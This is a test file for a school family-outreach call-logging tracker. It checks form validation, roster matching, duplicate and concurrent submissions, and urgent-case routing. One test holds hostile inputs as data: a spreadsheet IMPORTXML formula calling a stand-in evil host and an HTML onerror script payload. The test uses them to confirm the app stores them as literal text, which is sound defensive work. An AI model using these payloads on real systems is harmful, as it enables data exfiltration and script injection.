import {
  callInput,
  newTracker,
  OWNER,
  PRINCIPAL,
  records,
  STRANGER,
  SUPPORT,
  tab,
  TEACHER,
  TEACHER2,
  headersOf,
} from './helpers';
import type { CallFormData, SubmitResult } from '../../src/contract';

function submit(emu: ReturnType<typeof newTracker>, user: string, input: Record<string, unknown>) {
  return emu.callFromClient('submitCall', [input], { user }) as { value: SubmitResult; serviceCalls: number };
}

describe('submitCall', () => {
  it('a teacher logs a conversation: one row, identity from the session, progress back', () => {
    const emu = newTracker();
    const { value } = submit(emu, TEACHER, callInput({ staffEmail: 'principal.maple@district.example.org' }));
    expect(value).toMatchObject({ ok: true, urgent: false, alreadyLogged: false, warnings: [] });
    if (!value.ok) return;
    expect(value.callId).toMatch(/^C-/);
    expect(value.progress).toMatchObject({
      goal: 10,
      counted: 1,
      familiesReached: 1,
      attempts: 1,
      text: '1 of 10 families reached',
    });
    const [row] = records(emu, 'Call Log');
    expect(row).toMatchObject({
      'Call ID': value.callId,
      'Staff Email': TEACHER,
      'Staff Name': 'Ms. Ortiz',
      School: 'Maple Elementary',
      Student: 'Liam Chen',
      'Student ID': '00200',
      Outcome: 'Conversation',
      Urgent: false,
      'Urgent Reason': '',
    });
    expect(row['Call Date']).toBeInstanceOf(Date);
    expect((row['Call Date'] as Date).toISOString()).toBe('2026-11-20T06:00:00.000Z');
    expect((row['Logged At'] as Date).toISOString()).toBe('2026-11-23T15:00:00.000Z');
  });

  it('someone not on Staff gets a clear message and nothing is written', () => {
    const emu = newTracker();
    const { value } = submit(emu, STRANGER, callInput());
    expect(value).toEqual({
      ok: false,
      errors: { form: expect.stringContaining(`${STRANGER} is not on the Staff tab`) },
    });
    expect(records(emu, 'Call Log')).toHaveLength(0);
  });

  it('a blank email is explained, and the call is never credited to anyone', () => {
    const emu = newTracker();
    const { value } = submit(emu, '', callInput());
    expect(value.ok).toBe(false);
    if (!value.ok) expect(value.errors.form).toContain('outside your school');
    expect(records(emu, 'Call Log')).toHaveLength(0);
  });

  it.each([
    ['callDate', { callDate: '2026-11-24' }, "can't be in the future"],
    ['callDate', { callDate: '2026-01-05' }, "can't be before the Calls Start Date"],
    ['student', { student: '' }, 'Enter the student'],
    ['method', { method: 'Fax' }, 'Method must be one of'],
    ['outcome', { outcome: 'Maybe' }, 'Outcome must be one of'],
    ['familyMember', { familyMember: ' ' }, 'Say who you spoke with'],
    ['interpreter', { interpreter: 'Google Translate' }, 'Interpreter must be one of'],
    ['notes', { notes: 'a'.repeat(5001) }, 'the limit is 5,000'],
    ['followUpNeeded', { followUpNeeded: 'TRUE' }, 'must be ticked or not'],
  ])('rejects a bad %s with a message for that field, writing nothing', (field, overrides, message) => {
    const emu = newTracker();
    const { value } = submit(emu, TEACHER, callInput(overrides));
    expect(value.ok).toBe(false);
    if (!value.ok) expect(value.errors[field as keyof typeof value.errors]).toContain(message);
    expect(records(emu, 'Call Log')).toHaveLength(0);
  });

  it('stores hostile strings as literal text: no formula, no number', () => {
    const emu = newTracker();
    const hostile = {
      student: '=IMPORTXML("http://evil.example","//a")',
      familyMember: '+1',
      studentId: '00123',
      notes: '<img src=x onerror=alert(1)>',
      familyStrengths: '-2+3',
      hopesAndDreams: '@everyone',
      language: '=1+1',
    };
    const { value } = submit(emu, TEACHER, callInput(hostile));
    expect(value.ok).toBe(true);
    const [row] = records(emu, 'Call Log');
    expect(row).toMatchObject({
      Student: hostile.student,
      'Family Member': '+1',
      'Student ID': '00123',
      Notes: hostile.notes,
      'Family Strengths': '-2+3',
      'Hopes & Dreams': '@everyone',
      Language: '=1+1',
    });
    const log = tab(emu, 'Call Log');
    const formulas = log.getRange(2, 1, 1, headersOf(emu, 'Call Log').length).getFormulas()[0];
    expect(formulas.every((f) => f === '')).toBe(true);
  });

  it('a student not on the Roster is not logged without a second choice: the closest names are offered', () => {
    const emu = newTracker();
    const typo = callInput({ student: 'Liam Chenn', studentId: '' });
    const { value } = submit(emu, TEACHER, typo);
    expect(value).toEqual({
      ok: false,
      errors: {
        student:
          'Liam Chenn is not on your roster. Did you mean Liam Chen? Pick the student, or choose "Log as typed" if they are not on the Roster yet.',
      },
    });
    // Siblings come together.
    const sibling = submit(emu, TEACHER, callInput({ student: 'Sofia Ruis', studentId: '' })).value;
    expect(!sibling.ok && sibling.errors.student).toContain('Did you mean Sofia Ruiz (or Mateo Ruiz)?');
    expect(records(emu, 'Call Log')).toHaveLength(0);
    // Logged as typed once the caller says so.
    expect(submit(emu, TEACHER, { ...typo, offRoster: true }).value.ok).toBe(true);
    expect(records(emu, 'Call Log').map((r) => r.Student)).toEqual(['Liam Chenn']);
  });

  it('a student not on the Roster is listed on the Summary and by Check call log, with the closest name', () => {
    const emu = newTracker();
    submit(emu, TEACHER, callInput({ student: 'Liam Chenn', studentId: '', offRoster: true }));
    submit(emu, TEACHER, callInput());
    emu.run('refreshSummary', [], { user: OWNER });
    const summary = tab(emu, 'Summary').getDataRange().getValues();
    expect(summary.map((r) => String(r[0]))).toContain(
      "1 call was logged for students not on the Roster (Liam Chenn): families reached among them are counted apart from the Roster's. If a name is misspelled, correct it on the Call Log; Relationship Calls → Check call log lists them.",
    );
    const schoolHeader = summary.findIndex((r) => r[0] === 'School');
    const at = (h: string) => summary[schoolHeader].indexOf(h);
    const maple = summary.find((r) => r[0] === 'Maple Elementary')!;
    // One number: the Roster's families reached (Liam Chen's), the same as % Roster Reached says.
    expect([
      maple[at('Families Reached')],
      maple[at('Roster Families')],
      maple[at('% Roster Reached')],
    ]).toEqual([1, 2, 0.5]);
    emu.run('checkCallLog', [], { user: OWNER });
    const report = emu.ui.dialogs.at(-1)!.html;
    expect(report).toContain('<h2>Students not on the Roster</h2>');
    expect(report).toContain(
      `<tr><td>2</td><td>Liam Chenn</td><td>Maple Elementary</td><td>${TEACHER}</td><td>Liam Chen</td></tr>`,
    );
  });

  it('the same submissionId twice gives one row and the same Call ID', () => {
    const emu = newTracker();
    const input = callInput();
    const first = submit(emu, TEACHER, input).value;
    const second = submit(emu, TEACHER, input).value;
    expect(records(emu, 'Call Log')).toHaveLength(1);
    expect(second).toMatchObject({ ok: true, alreadyLogged: true, callId: first.ok ? first.callId : 'x' });
  });

  it('two executions submitting at once both land, one after the other, under the lock', async () => {
    const emu = newTracker();
    const executions = await emu.runConcurrently([
      {
        fn: 'submitCall',
        args: [callInput({ student: 'Mateo Ruiz', studentId: '00123', familyMember: 'Ana Ruiz' })],
        user: TEACHER,
        client: true,
      },
      { fn: 'submitCall', args: [callInput({ student: 'Liam Chen' })], user: TEACHER2, client: true },
    ]);
    expect(executions.map((e) => (e.value as SubmitResult).ok)).toEqual([true, true]);
    const rows = records(emu, 'Call Log');
    expect(rows.map((r) => r.Student).sort()).toEqual(['Liam Chen', 'Mateo Ruiz']);
    expect(new Set(rows.map((r) => r['Call ID'])).size).toBe(2);
  });

  it('flags urgent from a phrase in the notes, and routes it to Follow-ups', () => {
    const emu = newTracker();
    const { value } = submit(emu, TEACHER, callInput({ notes: 'Mom said the family was Evicted last week' }));
    expect(value).toMatchObject({ ok: true, urgent: true, urgentReason: 'Housing: "evicted"' });
    expect(records(emu, 'Call Log')[0]).toMatchObject({
      Urgent: true,
      'Urgent Reason': 'Housing: "evicted"',
    });
    expect(records(emu, 'Follow-ups')[0]).toMatchObject({
      School: 'Maple Elementary',
      Staff: 'Ms. Ortiz',
      'Staff Email': TEACHER,
      Student: 'Liam Chen',
      Reason: 'Housing: "evicted"',
      'Assigned To': `${SUPPORT}, liaison.maple@district.example.org`,
      Status: 'Open',
      'Family Member': 'Wei Chen (father)',
      Phone: '555-0199',
      'Family Email': 'wei@example.com',
      Alert: expect.stringMatching(/^Sent 2026-11-23 09:00 to /),
      'Days Open': 0,
    });
  });

  it('flags urgent when the caller ticks it', () => {
    const emu = newTracker();
    const { value } = submit(emu, TEACHER, callInput({ urgent: true }));
    expect(value).toMatchObject({ ok: true, urgent: true, urgentReason: 'Marked by caller' });
  });

  it('warns when the household was already reached by someone else, and still logs', () => {
    const emu = newTracker();
    submit(
      emu,
      TEACHER2,
      callInput({
        student: 'Sofia Ruiz',
        studentId: '00124',
        familyMember: 'Ana Ruiz (grandmother)',
        callDate: '2026-09-03',
      }),
    );
    const form = emu.callFromClient('getCallFormData', [], { user: TEACHER }).value as CallFormData;
    const mateo = form.families.find((f) => f.student === 'Mateo Ruiz');
    expect(mateo).toMatchObject({
      assignedToMe: true,
      priority: 'New family',
      attempts: 1,
      siblings: ['Sofia Ruiz'],
    });
    expect(mateo?.reached).toEqual({ by: 'Mr. Nguyen', on: '2026-09-03', byMe: false });
    const { value } = submit(
      emu,
      TEACHER,
      callInput({ student: 'Mateo Ruiz', studentId: '00123', familyMember: 'Ana Ruiz (grandmother)' }),
    );
    expect(value).toMatchObject({
      ok: true,
      warnings: ['This family was already reached by Mr. Nguyen on Sep 3.'],
    });
    expect(records(emu, 'Call Log')).toHaveLength(2);
  });

  it('hands a family off to Follow-ups after the set number of unanswered attempts, saying what was tried', () => {
    const emu = newTracker();
    for (const method of ['Phone', 'Text message', 'Phone'])
      submit(emu, TEACHER, callInput({ outcome: 'No answer', familyMember: '', method }));
    const expected = [
      [
        'Not reached after 3 attempts: Phone ×2, Text message ×1 over 1 day',
        'None: hand-offs are not emailed',
      ],
    ];
    expect(records(emu, 'Follow-ups').map((r) => [r.Reason, r.Alert])).toEqual(expected);
    // The refresh finds nothing missing: one row per household.
    emu.run('refreshSummary', [], { user: OWNER });
    expect(records(emu, 'Follow-ups').map((r) => [r.Reason, r.Alert])).toEqual(expected);
  });
});

describe('getCallFormData', () => {
  it('tells the teacher who they are, their goal, and their families with theirs first', () => {
    const emu = newTracker();
    const { value, serviceCalls } = emu.callFromClient('getCallFormData', [], { user: TEACHER }) as {
      value: CallFormData;
      serviceCalls: number;
    };
    expect(value).toMatchObject({
      ok: true,
      me: { email: TEACHER, name: 'Ms. Ortiz', school: 'Maple Elementary', role: 'Teacher' },
      progress: { goal: 10, counted: 0, text: '0 of 10 families reached' },
      today: '2026-11-23',
      callsStartDate: '2026-08-01',
    });
    expect(value.families.map((f) => f.student)).toEqual(['Mateo Ruiz', 'Liam Chen', 'Sofia Ruiz']);
    expect(value.families[0]).toMatchObject({
      studentId: '00123',
      phone: '555-0101',
      homeLanguage: 'Spanish',
    });
    expect(serviceCalls).toBeLessThan(45);
  });

  it("gives the family's phone and email, my recent calls with row links, my follow-ups and the urgent rules", () => {
    const emu = newTracker();
    const logged = (input: Record<string, unknown>) =>
      (emu.callFromClient('submitCall', [callInput(input)], { user: TEACHER }).value as { callId: string })
        .callId;
    const first = logged({ student: 'Liam Chen' });
    const urgent = logged({ notes: 'The family was evicted.', outcome: 'Left message', familyMember: '' });
    // Follow-ups are listed as of the last refresh.
    emu.run('refreshSummary', [], { user: OWNER });
    const { value } = emu.callFromClient('getCallFormData', [], { user: TEACHER }) as { value: CallFormData };
    expect(value.families.find((f) => f.student === 'Liam Chen')).toMatchObject({
      phone: '555-0199',
      email: 'wei@example.com',
      homeLanguage: 'Mandarin',
    });
    const gid = tab(emu, 'Call Log').getSheetId();
    expect(value.recentCalls.map((c) => [c.callId, c.link])).toEqual([
      [urgent, `${emu.spreadsheet.getUrl()}#gid=${gid}&range=A3`],
      [first, `${emu.spreadsheet.getUrl()}#gid=${gid}&range=A2`],
    ]);
    expect(value.followUps).toEqual([
      {
        student: 'Liam Chen',
        reason: 'Housing: "evicted"',
        status: 'Open',
        link: expect.stringMatching(/#gid=\d+&range=A2$/),
      },
    ]);
    expect(value.urgentRules?.routes.find((r) => r.category === 'Housing')?.phrases).toContain('evicted');
    expect(value.urgentRules?.school.followUpEmails).toEqual([SUPPORT, 'liaison.maple@district.example.org']);
    // Another teacher sees none of them.
    const other = emu.callFromClient('getCallFormData', [], { user: TEACHER2 }).value as CallFormData;
    expect(other.recentCalls).toEqual([]);
    expect(other.followUps).toEqual([]);
  });

  it('a principal without a goal logs calls too, and sees their school families', () => {
    const emu = newTracker();
    const form = emu.callFromClient('getCallFormData', [], { user: PRINCIPAL }).value as CallFormData;
    expect(form).toMatchObject({
      ok: true,
      me: { role: 'Principal' },
      progress: { goal: null, text: '0 families reached' },
    });
    expect(form.families.map((f) => f.assignedToMe)).toEqual([false, false, false]);
    const { value } = submit(emu, PRINCIPAL, callInput());
    expect(value).toMatchObject({ ok: true, progress: { goal: null, text: '1 family reached' } });
  });

  it('explains itself to someone not on Staff and to a blank email', () => {
    const emu = newTracker();
    expect(emu.callFromClient('getCallFormData', [], { user: STRANGER }).value).toMatchObject({ ok: false });
    expect(emu.callFromClient('getCallFormData', [], { user: '' }).value).toMatchObject({
      ok: false,
      message: expect.stringContaining('school account'),
    });
    expect(emu.callFromClient('getCallFormData', [], { user: OWNER }).value).toMatchObject({
      ok: true,
      progress: { goal: null },
    });
  });
});
